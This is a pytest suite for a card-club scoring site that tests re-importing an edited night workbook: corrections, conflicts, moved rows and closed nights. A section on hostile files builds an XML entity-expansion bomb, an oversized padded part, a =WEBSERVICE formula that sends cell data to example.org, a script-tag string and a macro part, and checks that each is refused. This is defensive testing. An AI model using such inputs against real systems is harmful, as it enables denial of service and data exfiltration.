"""A night's workbook goes out, is changed with another program, and comes back."""

from datetime import timedelta
from io import BytesIO
from random import Random
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from openpyxl import load_workbook

from clubsite.demo.played_games import play
from scoring import games
from scoring.browser import sync
from scoring.files.cell_map import CellMap
from scoring.models import Event
from scoring.sheets import lifecycle
from tests.by_day import by_day
from tests.scoring.typists import COLUMNS_OF_THEIR_OWN
from tests.tournaments.evenings import THURSDAY, club_with, drawn, people, playing, refused
from tests.tournaments.files.readers import ods
from tournaments.files.exports import night_workbook as writing
from tournaments.files.imports import corrections
from tournaments.files.imports.correction_page import Plan
from tournaments.models import Club, ImportDraft, Night, Season
from tournaments.nights import changes_in_play, closing, nights

pytestmark = pytest.mark.django_db
KEYS = [system.key for system in games.GAMES]


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def evening(key="jokeren", count=4, played=3):
    season = club_with(key)
    night = playing(season, people(season, count))
    drawn(night, 1)
    for table in night.rounds.get().tables.all():
        play(table.sheet, played, Random(table.number))
    return night


def form_of(night):
    return night.rounds.get().tables.first().sheet


def taken_along(night):
    return load_workbook(BytesIO(writing.build_night_workbook(night).build_content()))


def saved(book):
    file = BytesIO()
    book.save(file)
    return SimpleUploadedFile("night.xlsx", file.getvalue())


def brought(night, book):
    return Plan(corrections.save_draft(night=night, file=saved(book)))


def taken(plan, **more):
    chosen = [entry.correction for entry in plan.able]
    return corrections.apply(kept=plan.kept, corrections=chosen, **more)


def rows(sheet):
    return sync.build_sheet_state(type(sheet).objects.get(pk=sheet.pk))["data"]["games"]


@pytest.mark.parametrize("key", ["rummikub-international", "vijfhonderd"])
def test_a_workbook_in_another_language_that_was_not_changed_says_nothing(key):
    night = evening(key)
    with translation.override("nl"):
        book = taken_along(night)
    plan = brought(night, book)
    assert [sheet.worksheet for sheet in plan.sheets] == ["R1 T1"]
    assert plan.changed == []


@pytest.mark.parametrize("key", by_day(KEYS, *COLUMNS_OF_THEIR_OWN))
def test_a_table_that_was_played_without_a_network_comes_in(key):
    """What another table played is typed into the cells of an empty form."""
    night = evening(key, 4 if key == "rummy" else 8, played=0)
    empty, full = (table.sheet for table in night.rounds.get().tables.all())
    play(full, 4, Random(key))
    book = taken_along(night)
    fill_in(book["R1 T1"], empty, full)
    plan = brought(night, book)
    assert [sheet.worksheet for sheet in plan.changed] == ["R1 T1"]
    assert [problem for entry in plan.changed[0].unable for problem in entry.problems] == []
    assert all(entry.first for entry in plan.able)
    assert taken(plan) == (len(rows(full)), 0)
    assert totals(empty) == totals(full)


def test_workbook_that_libreoffice_saved_as_its_own_comes_in():
    night = evening(played=0)
    (sheet,) = (table.sheet for table in night.rounds.get().tables.all())
    book = taken_along(night)
    names = [seat.name for seat in sheet.seats.all()]
    for player, points in zip(names, ("-", 5, 6, 7), strict=True):
        cell_of(book["R1 T1"], 1, player).value = points
    pages = {page.title: [list(row) for row in page.values] for page in book}
    file = SimpleUploadedFile("night.ods", ods.saved(**pages))
    plan = Plan(corrections.save_draft(night=night, file=file))
    assert [entry.correction.number for entry in plan.able] == [1]
    assert taken(plan) == (1, 0)
    assert rows(sheet)[0]["entries"] == dict(zip(names, ("-", 5, 6, 7), strict=True))


def fill_in(page, empty, full):
    known, played = (CellMap(sync.build_sheet_state(sheet)) for sheet in (empty, full))
    names = dict(zip(played.played.names, known.played.names, strict=True))
    kind = "typed" if known.played.has_more else "score"
    for number in range(1, len(rows(full)) + 1):
        typed = played.list_typed(number)
        (line,) = [row[0].row for row in page.iter_rows(min_row=7) if row[0].value == number]
        for slot in known.slots:
            if slot.kind == kind:
                said = typed[slot.column.name]
                said = names.get(said, said)
                page.cell(line, slot.at).value = int(said) if said.isdecimal() else said or None


def totals(sheet):
    return list(
        sync.build_sheet_state(type(sheet).objects.get(pk=sheet.pk))["result"]["totals"].values()
    )


# Corrections


def cell_of(page, number, player):
    """Where somebody's figure of a game stands."""
    (column,) = [cell.column for cell in page[6] if cell.value == player][:1]
    (line,) = [row[0].row for row in page.iter_rows(min_row=7) if row[0].value == number]
    return page.cell(line, column)


@pytest.fixture
def night():
    """One table with two whole games: 0 3 4 5, twice."""
    night = evening(played=0)
    for number in (1, 2):
        enter(form_of(night), number, "-", 3, 4, 5)
    return night


def enter(sheet, number, *cells, **more):
    names = [seat.name for seat in sheet.seats.all()]
    row = {"entries": dict(zip(names, cells, strict=True))}
    return lifecycle.record(sheet=sheet, number=number, row=row, **more)


def players(night):
    return [seat.name for seat in form_of(night).seats.all()]


def cells(night, number):
    entries = rows(form_of(night))[number - 1].get("entries", {})
    return [entries.get(name) for name in players(night)]


def list_problems(plan):
    """Everything that is not read, with where that is."""
    (sheet,) = plan.changed
    every = [*sheet.problems, *(problem for entry in sheet.unable for problem in entry.problems)]
    return [(problem.at, problem.code) for problem in every]


def test_a_changed_cell_is_shown_and_becomes_a_correction(night):
    book, (_first, second, third, _last) = taken_along(night), players(night)
    cell = cell_of(book["R1 T1"], 2, second)
    cell.value = 12
    cell_of(book["R1 T1"], 3, third).value = "-"
    plan = brought(night, book)
    (sheet,) = plan.changed
    assert [
        (entry.game.number, [change[:4] for change in entry.game.changes], entry.first)
        for entry in sheet.able
    ] == [
        (2, [(cell.coordinate, second, "3", "12")], False),
        (3, [("F9", third, "", "-")], True),
    ]
    assert taken(plan, by="user 1") == (2, 0)
    assert [cells(night, number) for number in (1, 2, 3)] == [
        ["-", 3, 4, 5], ["-", 12, 4, 5], [None, None, "-", None],
    ]  # fmt: skip
    last = form_of(night).events.order_by("-sequence").first()
    assert (last.kind, last.actor) == (Event.Kind.ENTERED, "user 1")
    assert not ImportDraft.objects.exists()


def test_what_was_changed_on_the_site_meanwhile_is_not_written_over(night):
    book, second = taken_along(night), players(night)[1]
    cell_of(book["R1 T1"], 1, second).value = 8
    cell_of(book["R1 T1"], 2, second).value = 12
    enter(form_of(night), 1, "-", 8, 4, 5)  # as the workbook says
    enter(form_of(night), 2, "-", 9, 4, 5)
    plan = brought(night, book)
    (entry,) = plan.able
    assert plan.counts() == {"moved": 1, "there": 1}
    assert (entry.game.number, entry.moved, entry.stands) == (2, True, [f"{second}: 9"])
    assert taken(plan) == (0, 1)
    assert cells(night, 2) == ["-", 9, 4, 5]
    (conflict,) = sync.build_sheet_state(form_of(night))["conflicts"]
    assert [version["row"]["entries"][second] for version in conflict["versions"]] == [9, 12]


def test_a_game_that_moved_on_since_it_was_looked_at_is_looked_at_again(night):
    book = taken_along(night)
    for number in (1, 2):
        cell_of(book["R1 T1"], number, players(night)[1]).value = 12
    kept = brought(night, book).kept
    keys = [entry.key for entry in Plan(kept).able]
    enter(form_of(night), 2, "-", 9, 4, 5)
    assert refused(Plan(kept).select_chosen, keys=keys) == ["C84"]
    plan = Plan(kept)
    plan.tick_games(keys[1:])
    assert [entry.ticked for entry in plan.able] == [False, True]
    assert refused(corrections.apply, kept=kept, corrections=[]) == ["C164"]


def test_all_of_it_goes_in_or_nothing(night):
    book = taken_along(night)
    cell_of(book["R1 T1"], 1, players(night)[1]).value = 12
    plan = brought(night, book)
    wrong = plan.able[0].correction._replace(number=2, row={"entries": {"Nobody": 3}})
    both = [plan.able[0].correction, wrong]
    assert refused(corrections.apply, kept=plan.kept, corrections=both) == ["J27"]
    assert cells(night, 1) == ["-", 3, 4, 5]
    assert ImportDraft.objects.filter(pk=plan.kept.pk).exists()


def test_what_a_game_can_not_be_is_told_at_its_cell_and_stops_no_other(night):
    book, names = taken_along(night), players(night)
    cell_of(book["R1 T1"], 1, names[1]).value = "drie"
    cell_of(book["R1 T1"], 2, names[2]).value = 6
    plan = brought(night, book)
    assert [at for at, _code in list_problems(plan)] == ["E7"]
    assert plan.counts() == {"mended": 1, "unable": 1}
    assert [entry.game.number for entry in plan.able] == [2]


def test_lines_columns_and_sheets_may_be_moved_about(night):
    book = taken_along(night)
    page = book["R1 T1"]
    page.title = "Mine"
    book.move_sheet(page, -1)
    cell_of(page, 2, players(night)[1]).value = 12
    page.insert_rows(1, 3)
    page.insert_cols(4)
    page["D9"] = "note"
    page["Z3"] = "mine"
    plan = brought(night, book)
    (change,) = plan.able[0].game.changes
    assert change[:4] == ("F11", players(night)[1], "3", "12")
    assert list_problems(plan) == []


def test_names_and_seats_stay_as_they_are(night):
    book, names = taken_along(night), players(night)
    page = book["R1 T1"]
    page["D6"], page["E6"] = names[1], names[0]
    page["F7"] = 100
    plan = brought(night, book)
    assert list_problems(plan) == [("D6", "C167"), ("E6", "C167")]
    assert plan.able == []
    page["D6"], page["E6"] = names[0], None
    assert list_problems(brought(night, book)) == [("E6", "C167")]
    page["E6"], page["F6"], page["G6"], page["Z6"] = names[1], names[3], names[2], "note"
    assert list_problems(brought(night, book)) == [("F6", "C167"), ("G6", "C167")]
    page["F6"], page["G6"], page["Z6"] = names[2], names[3], names[3]
    assert list_problems(brought(night, book)) == [("Z6", "C166")]
    page.delete_rows(6)
    assert list_problems(brought(night, book)) == [("", "C167")]


def test_one_sheet_as_text_comes_back_too(night):
    content = BytesIO(writing.build_night_workbook(night).build_content())
    page = load_workbook(content, data_only=True)["R1 T1"]
    page["E8"] = 12
    rows = page.iter_rows(values_only=True)
    text = "\n".join(";".join("" if cell is None else str(cell) for cell in row) for row in rows)
    file = SimpleUploadedFile("night.csv", text.encode())
    plan = Plan(corrections.save_draft(night=night, file=file))
    assert [change[:4] for change in plan.able[0].game.changes] == [
        ("E8", players(night)[1], "3", "12"),
    ]
    assert (len(plan.able), list_problems(plan)) == (1, [])


@pytest.mark.parametrize("said", [51, "51/61"], ids=["as it is kept", "as it is shown"])
def test_two_figures_of_an_open_verdict_are_no_change(said):
    night = evening("amerikaans-jokeren", played=0)
    enter(form_of(night), 1, "-", 3, {"points": 41, "jokers": 1}, 5)
    book = taken_along(night)
    cell = cell_of(book["R1 T1"], 1, players(night)[2])
    assert (cell.value, cell.number_format) == (51, '[=51]"51/61";General')
    cell.value = said
    assert brought(night, book).changed == []


def test_what_is_worked_out_is_not_read(night):
    book = taken_along(night)
    page = book["R1 T1"]
    page["C7"] = "Me"  # who deals
    page["D18"] = 1000  # the total
    page["D8"] = "=1+1"
    plan = brought(night, book)
    assert list_problems(plan) == [("C7", "C168"), ("D8", "C169")]
    assert plan.able == []


def test_a_game_that_was_not_played_and_is_after_all(night):
    lifecycle.record(sheet=form_of(night), number=3, row={"void": "misdeal"})
    book = taken_along(night)
    page = book["R1 T1"]
    assert page["B9"].value == "Not played: misdeal"
    page["B8"], page["B9"] = "Not played: tea was spilt", None
    for column, cell in zip("DEFG", (1, "-", 2, 3), strict=True):
        page[f"{column}9"] = cell
    assert taken(brought(night, book)) == (2, 0)
    assert brought(night, book).counts() == {"there": 2}
    assert rows(form_of(night))[1]["void"] == "tea was spilt"
    assert cells(night, 3) == [1, "-", 2, 3]


def test_a_game_whose_cells_were_emptied_is_open_again(night):
    book = taken_along(night)
    for column in "DEFG":
        book["R1 T1"][f"{column}8"] = None
    plan = brought(night, book)
    assert [change.after for change in plan.able[0].game.changes] == ["", "", "", ""]
    assert taken(plan) == (1, 0)
    assert sync.build_sheet_state(form_of(night))["result"]["next"]["game"] == 2


def test_a_line_that_is_gone_or_stands_there_twice_changes_nothing(night):
    book = taken_along(night)
    page = book["R1 T1"]
    page["A8"] = 1
    plan = brought(night, book)
    assert list_problems(plan) == [("A8", "C166")]
    assert plan.changed[0].gone == [2]


def test_cells_of_a_game_that_takes_more_are_those_beside_the_form():
    night = evening("rummikub-international")
    book = taken_along(night)
    page = book["R1 T1"]
    assert page["A4"].value == "Games are written and mended on the right, under “As entered”."
    page.cell(11, page.max_column).value = 1  # what only a winner has
    page["D7"] = 1000
    (beside,) = [cell for cell in page[6] if cell.value == f"{players(night)[0]}: Points left"][:1]
    page.cell(10, beside.column).value = 7
    plan = brought(night, book)
    assert list_problems(plan)[0] == ("D7", "C168")
    assert list_problems(plan)[-1][1] == "S73"
    assert [entry.game.number for entry in plan.sheets[0].entries] == [4, 5]


# A closed night


def test_a_form_of_a_closed_night_is_opened_again_with_a_reason(night):
    Night.objects.update(state=Night.State.CLOSING)
    closing.close(night=night, reason="early")
    book = taken_along(night)
    cell_of(book["R1 T1"], 2, players(night)[1]).value = 12
    plan = brought(night, book)
    assert plan.shut
    (chosen,) = [entry.correction for entry in plan.able]
    assert refused(corrections.apply, kept=plan.kept, corrections=[chosen]) == ["C64"]
    assert taken(plan, reason="Read wrong") == (1, 0)
    assert cells(night, 2) == ["-", 12, 4, 5]
    night.refresh_from_db()
    assert (night.state, night.log_entries.last().reason) == (Night.State.CLOSING, "Read wrong")


def test_a_form_that_stayed_closed_in_an_open_night_is_opened_too(night):
    Night.objects.update(state=Night.State.CLOSING)
    lifecycle.close(sheet=form_of(night))
    book = taken_along(night)
    cell_of(book["R1 T1"], 2, players(night)[1]).value = 12
    plan = brought(night, book)
    (chosen,) = [entry.correction for entry in plan.able]
    assert refused(corrections.apply, kept=plan.kept, corrections=[chosen]) == ["C64"]
    assert taken(plan, reason="Read wrong") == (1, 0)


# Files that mean harm


def patched(book, part, change):
    """The same file with one part of it another."""
    file = BytesIO()
    with ZipFile(BytesIO(saved(book).read())) as old, ZipFile(file, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            new.writestr(name, change(content) if name == part else content)
        if part not in old.namelist():
            new.writestr(part, change(b""))
    return SimpleUploadedFile("night.xlsx", file.getvalue())


SECOND = "xl/worksheets/sheet2.xml"
LAUGHS = b"<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'>]>"


@pytest.mark.parametrize(
    ("part", "change", "code"),
    [
        (SECOND, lambda content: LAUGHS + content, "C117"),
        (SECOND, lambda content: content[: len(content) // 2], "C115"),
        ("xl/media/image1.png", lambda _content: b"\0" * 40_000_000, "C116"),
        (
            SECOND,
            lambda content: content.replace(b"streepje:", b"streepje:e"),
            "C162",
        ),
    ],
)
def test_a_file_that_was_tampered_with_is_refused(night, part, change, code):
    file = patched(taken_along(night), part, change)
    assert refused(corrections.save_draft, night=night, file=file) == [code]


def test_cells_that_mean_harm_are_refused_one_by_one(night):
    book = taken_along(night)
    page = book["R1 T1"]
    page["D7"] = '=WEBSERVICE("http://example.org/"&E7)'
    page["D8"] = "a" * 30_000
    page["D9"] = "_x0000__xD800_<script>"
    page["A24"], page["D24"] = 999, "-"
    page["A25"], page["D25"] = 12, -(10**14)
    plan = brought(night, book)
    assert sorted(list_problems(plan)) == [
        ("D24", "S61"), ("D25", "J14"), ("D7", "C169"), ("D8", "C128"), ("D9", "J21"),
    ]  # fmt: skip
    assert plan.able == []


def test_a_form_that_stands_there_a_hundred_times_is_read_once(night):
    book = taken_along(night)
    cell_of(book["R1 T1"], 2, players(night)[1]).value = 12
    for _number in range(100):
        book.copy_worksheet(book["R1 T1"])
    plan = brought(night, book)
    assert len(plan.able) == 1
    assert {problem.code for sheet in plan.changed[1:] for problem in sheet.problems} == {"C166"}


def test_macros_are_left_alone(night):
    file = patched(taken_along(night), "xl/vbaProject.bin", lambda _content: b"x")
    plan = Plan(corrections.save_draft(night=night, file=file))
    assert [remark[:27] for remark in plan.remarks] == ["This workbook holds macros."]


# Whose it is


def save_draft(night, book):
    return corrections.save_draft(night=night, file=saved(book))


def test_a_workbook_of_another_night_or_club_is_told_so(night):
    book = taken_along(night)
    season = night.season
    (other,) = nights.plan(season=season, days=[THURSDAY + timedelta(7)])
    assert refused(save_draft, night=other, book=book) == ["C163"]
    Night.objects.filter(pk=night.pk).update(season=another_season())
    assert refused(save_draft, night=other, book=book) == ["C162"]


def another_season():
    """Of another club."""
    club = Club.objects.create(name="De Ster", slug="de-ster")
    season = Season.objects.get()
    season.pk, season.club = None, club
    season.save()
    return season


def test_who_sits_there_has_changed_since(night):
    book = taken_along(night)
    table = night.rounds.get().tables.get()
    changes_in_play.leave(table=table, member=table.seats.first().member, since=3)
    assert list_problems(brought(night, book)) == [("", "C165")]


def test_a_table_that_is_drawn_anew_is_no_longer_there(night):
    book = taken_along(night)
    sheet = form_of(night)
    night.rounds.all().delete()
    assert sheet.events.count() == 3
    assert list_problems(brought(night, book)) == [("", "C165")]


@pytest.mark.parametrize("signed", [True, False])
def test_a_file_without_forms_or_with_a_line_that_was_changed(night, signed):
    book = taken_along(night)
    page = book["R1 T1"]
    (mark,) = [cell for cell in page["A"] if str(cell.value).startswith("streepje:")]
    mark.value = None if signed else mark.value.replace(":", ":x", 1)
    assert refused(save_draft, night=night, book=book) == ["C161" if signed else "C162"]
